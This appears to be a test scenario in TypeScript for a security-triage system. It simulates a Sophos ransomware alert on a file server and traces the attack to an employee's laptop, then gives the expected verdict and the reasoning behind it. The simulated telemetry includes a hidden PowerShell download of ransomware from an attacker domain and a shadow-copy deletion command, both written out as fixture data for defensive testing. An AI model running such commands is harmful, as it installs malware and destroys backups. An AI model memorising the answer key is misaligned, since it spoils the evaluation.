// Sophos on the file server stopped encryption that came from another machine, of which it knows only the address.
import { alert, by, connected, hashes, hostile, malwareFound, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const sophosCryptoguardNamesARemoteClient: TellSituation = (setting) => {
  const lars = setting.person('lars-erik.oberg')
  const laptop = setting.laptopOf('lars-erik.oberg')
  const server = setting.machine('srv-files-01')
  const at = setting.ago({ minutes: 29 })
  const file = setting.file('hkcmdsvc32.exe')
  const script = setting.file('Ritning_OPT7_rev_F.js')
  const host = '194.26.135.84'
  const domain = 'ritportal-delning.com'
  const endpoint = setting.seeded.guid('sophos endpoint files')
  const customer = setting.seeded.guid('sophos tenant')
  const event = setting.seeded.guid('sophos event cryptoguard')
  const own = { ...by(lars), InitiatingProcessAccountName: lars.account }
  const locked = ['Kapslingar_2026.xlsx', 'OPT-7_optikhus_rev12.step', 'Mätprotokoll_0412.docx'].map((name, i) =>
    wrote(
      server,
      at - 24_000 + i * 1500,
      `${name}.gwlf`,
      'E:\\Shares\\design$\\OPT-7',
      setting.file(`${name} locked`),
      {
        ActionType: 'FileRenamed',
        InitiatingProcessFileName: 'System',
        InitiatingProcessAccountName: lars.account,
      },
    ),
  )
  return {
    id: 'sophos-cryptoguard-names-a-remote-client',
    group: 'resolution',
    title: 'Sophos CryptoGuard on the file server',
    alerts: [
      alert(setting, at, 'sophos_central', 'Event::Endpoint::HmpaCryptoGuardSmb', {
        has_more: false,
        next_cursor: setting.seeded.hex('sophos cursor', 60),
        items: [
          {
            id: event,
            created_at: setting.iso(at + 3100),
            when: setting.iso(at),
            type: 'Event::Endpoint::HmpaCryptoGuardSmb',
            group: 'RUNTIME_DETECTIONS',
            name: `CryptoGuard detected ransomware in \\\\${laptop.ip}`,
            severity: 'high',
            threat: 'CryptoGuard',
            origin: null,
            source: 'n/a',
            user_id: null,
            source_info: { ip: server.ip },
            location: server.host.toUpperCase(),
            endpoint_id: endpoint,
            endpoint_type: 'server',
            customer_id: customer,
            appCerts: null,
            appSha256: null,
            amsi_threat_data: null,
            core_remedy_items: { totalItems: 0, items: [] },
            ips_threat_data: null,
            details: [
              { type: 'string', property: 'Mitigation', value: 'CryptoGuard V5' },
              { type: 'string', property: 'Policy', value: 'Server - CryptoGuard remote' },
              { type: 'string', property: 'Timestamp', value: setting.iso(at - 1800) },
              { type: 'string', property: 'Platform', value: '10.0.20348/x64 v1.1.4 06_8f' },
              { type: 'integer', property: 'PID', value: '4' },
              { type: 'string', property: 'Application', value: 'System' },
              { type: 'string', property: 'Description', value: `Remote client ${laptop.ip}` },
              { type: 'string', property: 'Files', value: 'E:\\Shares\\design$\\OPT-7\\Kapslingar_2026.xlsx (+2)' },
              { type: 'string', property: 'Detection type', value: 'Remote; 3 files changed within 4 s, entropy 7.99' },
              { type: 'string', property: 'Recovered', value: '2 of 3' },
              { type: 'string', property: 'Thumbprint', value: setting.seeded.hex('sophos thumbprint', 64) },
            ],
          },
        ],
        alert: {
          id: setting.seeded.guid('sophos alert cryptoguard'),
          allowedActions: ['acknowledge'],
          category: 'runtimeDetections',
          description: `CryptoGuard detected ransomware in \\\\${laptop.ip}`,
          groupKey: Buffer.from(`${endpoint}, Event::Endpoint::HmpaCryptoGuardSmb,4, CryptoGuard`).toString('base64'),
          managedAgent: { id: endpoint, type: 'server', name: server.host.toUpperCase() },
          person: null,
          product: 'server',
          raisedAt: setting.iso(at),
          severity: 'high',
          tenant: { id: customer, name: 'Havskog Instruments AB' },
          type: 'Event::Endpoint::HmpaCryptoGuardSmb',
        },
        _meta: {
          region: 'eu01',
          forwarder: 'siem-integration 2.1.0',
          console: `https://cloud.sophos.com/manage/server/servers/${endpoint}/events`,
          serverAgent: 'Core Agent 2024.3.2.23 / Server Intercept X 2024.1.1.1',
          lockdown: 'notInstalled',
          tamperProtection: true,
        },
      }),
    ],
    facts: {
      intelligence: [
        setting.risk(
          'hash',
          file.sha256,
          88,
          [['Positive Malware Verdict', 4, 'Glaswolf ransomware, a build of this week.']],
          {
            hashAlgorithm: 'SHA-256',
            fileHashes: [file.sha256, file.sha1, file.md5],
          },
        ),
        setting.risk('domain', domain, 81, [['Recent Malware Delivery', 3, 'Serves script files as drawings.']]),
        setting.risk('ip', host, 77, [['Recent Malware Delivery', 3, 'Hosts pages that serve script files.']]),
      ],
      malwareEvents: malwareFound(
        laptop,
        at + 70_000,
        'W64.Ransom.Glaswolf',
        { name: 'hkcmdsvc32.exe', path: 'C:\\ProgramData\\Intel', identity: file },
        'Quarantine Failure',
        'Critical',
      ),
      telemetry: [
        connected(laptop, at - 1_500_000, host, {
          RemoteUrl: domain,
          InitiatingProcessFileName: 'msedge.exe',
          InitiatingProcessAccountName: lars.account,
        }),
        wrote(laptop, at - 1_490_000, 'Ritning_OPT7_rev_F.js', `C:\\Users\\${lars.account}\\Downloads`, script, {
          FileOriginUrl: `https://${domain}/d/7712`,
          FileOriginIP: host,
          InitiatingProcessFileName: 'msedge.exe',
          InitiatingProcessAccountName: lars.account,
        }),
        ran(
          laptop,
          at - 1_440_000,
          'wscript.exe',
          `wscript.exe "C:\\Users\\${lars.account}\\Downloads\\Ritning_OPT7_rev_F.js"`,
          {
            ...own,
            FolderPath: 'C:\\Windows\\System32',
            InitiatingProcessFileName: 'explorer.exe',
          },
        ),
        ran(
          laptop,
          at - 1_431_000,
          'powershell.exe',
          `powershell.exe -w hidden -nop -c "iwr https://${domain}/k -OutFile C:\\ProgramData\\Intel\\hkcmdsvc32.exe"`,
          {
            ...own,
            ...hashes(setting.file('powershell.exe')),
            InitiatingProcessFileName: 'wscript.exe',
          },
        ),
        wrote(laptop, at - 1_420_000, 'hkcmdsvc32.exe', 'C:\\ProgramData\\Intel', file, {
          InitiatingProcessFileName: 'powershell.exe',
          InitiatingProcessAccountName: lars.account,
        }),
        ran(laptop, at - 190_000, 'hkcmdsvc32.exe', 'C:\\ProgramData\\Intel\\hkcmdsvc32.exe -m net', {
          ...own,
          ...hashes(file),
          FolderPath: 'C:\\ProgramData\\Intel',
          InitiatingProcessFileName: 'powershell.exe',
        }),
        ran(laptop, at - 120_000, 'net.exe', 'net view \\\\srv-files-01 /all', {
          ...own,
          FolderPath: 'C:\\Windows\\System32',
          InitiatingProcessFileName: 'hkcmdsvc32.exe',
        }),
        connected(laptop, at - 40_000, server.ip, {
          RemotePort: 445,
          RemoteIPType: 'Private',
          InitiatingProcessFileName: 'hkcmdsvc32.exe',
          InitiatingProcessSHA256: file.sha256,
          InitiatingProcessAccountName: lars.account,
        }),
        ...locked,
        ran(laptop, at + 45_000, 'vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', {
          ...own,
          ...hashes(setting.file('vssadmin.exe')),
          InitiatingProcessFileName: 'hkcmdsvc32.exe',
        }),
      ],
    },
    expected: {
      ...hostile(laptop.host),
      severities: ['high', 'critical'],
      forbidden: [{ action: 'isolate-machine', target: server.host }],
    },
    because:
      'The address has been the designer’s laptop all day. There a script that came as a drawing fetched a file which intelligence knows as ransomware; it reached the share on the server at the second of the alert, deleted shadow copies afterwards, and the malware platform could not put it away. The server is the victim and runs nothing of it.',
  }
}
